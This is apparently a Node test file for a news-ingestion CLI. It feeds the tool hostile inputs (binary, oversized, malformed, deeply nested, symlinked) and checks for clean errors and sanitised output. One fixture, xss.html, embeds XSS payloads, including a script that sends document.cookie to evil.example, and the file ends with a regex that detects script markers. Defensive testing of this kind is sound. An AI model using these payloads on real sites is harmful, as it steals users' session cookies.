// A batch of hostile inputs through the real CLI (`node bin/trucewatch.js ingest <dir>`): each bad
// file gives a clear one-line error, nothing crashes, and the good files of the batch are stored.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { copyFileSync, mkdirSync, mkdtempSync, openSync, closeSync, rmSync, symlinkSync, writeFileSync, writeSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { openStore } from '../../src/store/index.ts';

const ROOT = join(import.meta.dirname, '..', '..');
const GOOD = ['02_taji-rocket-attack.txt', '10_tower-22-drone-attack.txt'];

let dir: string;
let corpus: string;

/** Writes `mb` megabytes of plain English text in 1 MB chunks (never holding it all in memory). */
function writeBigText(path: string, mb: number): void {
  const line = 'Rockets struck near the base on Tuesday and officials said no one was hurt in the attack.\n';
  const chunk = line.repeat(Math.ceil((1024 * 1024) / line.length));
  const fd = openSync(path, 'w');
  try {
    for (let i = 0; i < mb; i++) writeSync(fd, chunk);
  } finally {
    closeSync(fd);
  }
}

before(() => {
  dir = mkdtempSync(join(tmpdir(), 'trucewatch-robust-'));
  corpus = join(dir, 'corpus');
  mkdirSync(join(corpus, 'nested'), { recursive: true });
  for (const f of GOOD) copyFileSync(join(ROOT, 'samples', f), join(corpus, f));
  const bytes = Buffer.alloc(4096);
  for (let i = 0; i < bytes.length; i++) bytes[i] = (i * 7919 + 13) % 256;
  writeFileSync(join(corpus, 'binary.bin'), bytes);
  writeBigText(join(corpus, 'huge.txt'), 50);
  writeFileSync(join(corpus, 'invalid-utf8.txt'), Buffer.concat([Buffer.from('Rockets hit the base. '), Buffer.from([0xc3, 0x28, 0xff, 0xfe, 0xa0, 0xa1]), Buffer.from(' More text.')]));
  writeFileSync(join(corpus, 'nul-bytes.txt'), 'BAGHDAD, Jan 5 (TruceWire) - Three rockets\u0000 struck near Baghdad airport on Sunday.\u0000\u0000 No one was hurt.\n');
  writeFileSync(join(corpus, 'malformed.html'), '<html><head><title>Broken</title><body><p>Rockets struck <b>near <i>the base</p></div></span><p>Officials said <a href="x>the attack</p>');
  writeFileSync(join(corpus, 'deep.html'), `<html><body>${'<div>'.repeat(10_000)}<p>Rockets struck a base in Baghdad on Tuesday, officials said.</p>${'</div>'.repeat(10_000)}</body></html>`);
  writeFileSync(join(corpus, 'broken-feed.xml'), '<?xml version="1.0"?><rss version="2.0"><channel><title>Feed</title><item><title>Rockets</title><description>Rockets struck the base.</description></item><item><title>Unclosed');
  writeFileSync(join(corpus, 'xss.html'), `<!doctype html><html><head><title>Rockets hit Ain al-Asad</title><script>alert('head')</script></head><body><article>
    <h1>Rockets hit Ain al-Asad</h1><script>document.location='https://evil.example/?c='+document.cookie</script>
    <p>Several rockets struck Ain al-Asad air base in western Iraq on Monday, the coalition said. <img src="x" onerror="alert(1)"></p>
    <p onmouseover="alert(2)">No casualties were reported, a spokesman told reporters in Baghdad.</p><iframe src="javascript:alert(3)"></iframe></article></body></html>`);
  writeFileSync(join(corpus, 'empty.txt'), '');
  writeFileSync(join(corpus, 'whitespace.txt'), ' \n\t\n   \n');
  // A directory loop: nested/loop points back to the corpus itself.
  symlinkSync(corpus, join(corpus, 'nested', 'loop'));
});

after(() => rmSync(dir, { recursive: true, force: true }));

test('a hostile batch: one-line errors, no crash, good files stored', async () => {
  const db = join(dir, 'store.db');
  const r = spawnSync(process.execPath, [join(ROOT, 'bin', 'trucewatch.js'), 'ingest', corpus, '--db', db, '--json'], { cwd: ROOT, encoding: 'utf8', timeout: 120_000 });
  assert.equal(r.signal, null, `ingest was killed (${r.signal}); stderr: ${r.stderr}`);
  assert.equal(r.status, 1, `exit code 1 because some inputs failed; stderr: ${r.stderr}`);
  assert.doesNotMatch(r.stderr, /^\s+at .+:\d+:\d+\)?$/m, 'no stack trace');
  assert.doesNotMatch(r.stderr + r.stdout, /RangeError|TypeError|Maximum call stack|FATAL/);

  const lines = r.stdout.trim().split('\n').map((l) => JSON.parse(l) as { source?: string; status?: string; error?: string; summary?: Record<string, number> });
  const items = lines.filter((l) => l.status !== undefined);
  const bySource = new Map(items.map((i) => [i.source!.slice(corpus.length + 1), i]));
  for (const bad of ['binary.bin', 'huge.txt', 'invalid-utf8.txt', 'broken-feed.xml', 'empty.txt', 'whitespace.txt']) {
    const item = bySource.get(bad);
    assert.ok(item, `${bad} is reported`);
    assert.equal(item.status, 'failed', `${bad} fails`);
    assert.ok(item.error && item.error.length > 5 && !item.error.includes('\n'), `${bad}: a one-line reason, got ${JSON.stringify(item.error)}`);
    assert.ok(r.stderr.includes(`error: ${join(corpus, bad)}: `), `${bad}: named on stderr`);
  }
  assert.match(bySource.get('huge.txt')!.error!, /too large/);
  // Every stderr line is a one-line error naming its input (the progress line aside).
  for (const line of r.stderr.split('\n').filter((l) => l.startsWith('error:'))) assert.match(line, /^error: \/\S+: \S/);
  for (const good of GOOD) assert.equal(bySource.get(good)?.status, 'added', `${good} stored`);
  // The loop is walked once: no file is reported twice.
  assert.equal(bySource.size, items.length, 'no input read twice through the symlink loop');
  const summary = lines.at(-1)!.summary!;
  assert.ok(summary.failed >= 6 && summary.added >= 2, JSON.stringify(summary));

  const store = await openStore(db);
  try {
    const docs = await store.listDocuments({ limit: 100 });
    const names = docs.items.map((d) => d.name);
    for (const good of GOOD) assert.ok(names.includes(good), `${good} is in the store`);
    assert.equal(docs.total, items.filter((i) => i.status === 'added' || i.status === 'near-duplicate').length);
    // Whatever was made of the hostile pages holds no markup or script.
    for (const d of docs.items) {
      const detail = await store.getDocument(d.id);
      assert.ok(detail);
      assert.doesNotMatch(detail.text, /<script|onerror=|onmouseover=|javascript:/i, `${d.name}: no script in the stored text`);
    }
    const xss = bySource.get('xss.html');
    assert.ok(xss?.status === 'added' || xss?.status === 'failed', 'the script-laden page is either cleaned or refused');
    const deep = bySource.get('deep.html');
    assert.ok(deep?.status === 'added' || /nested too deeply/.test(deep?.error ?? ''), `10k nested divs: stored or refused with the reason, got ${JSON.stringify(deep)}`);
    assert.ok(['added', 'failed'].includes(bySource.get('malformed.html')?.status ?? ''), 'malformed HTML handled');
    assert.ok(['added', 'failed'].includes(bySource.get('nul-bytes.txt')?.status ?? ''), 'NUL bytes handled');
  } finally {
    await store.close();
  }
});
